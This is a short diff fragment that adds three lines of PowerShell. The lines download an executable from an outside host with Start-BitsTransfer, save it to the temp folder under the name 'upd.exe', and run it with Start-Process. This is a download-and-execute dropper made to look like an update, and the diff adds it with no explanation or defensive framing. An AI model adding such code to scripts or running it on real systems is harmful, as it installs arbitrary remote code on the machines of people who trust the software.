@@ -1,0 +1,3 @@
+$dst = "$env:TEMP\\upd.exe"
+Start-BitsTransfer -Source 'https://upd.example-win.net/u.exe' -Destination $dst
+Start-Process $dst
